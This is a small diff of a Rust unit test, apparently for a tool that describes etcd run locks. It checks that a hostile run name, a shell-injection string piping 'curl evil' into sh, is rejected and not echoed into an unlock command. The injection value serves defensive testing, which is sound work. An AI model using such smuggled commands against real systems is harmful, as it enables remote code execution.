@@ -388,7 +388,7 @@ mod tests {
             describe(&holder, &hosts)
         };
         let hostile = told("x`; curl evil | sh #");
-        assert!(hostile.contains("is not the name of a run") && !hostile.contains("etcdrun "), "{hostile}");
+        assert!(hostile.contains("is not the name of a run") && !hostile.contains("`etcdrun"), "{hostile}");
         assert!(!hostile.contains(char::is_control), "{hostile:?}");
         let usual = told("20261115T044500000Z-00ff");
         assert!(usual.contains("unlock 20261115T044500000Z-00ff"), "{usual}");
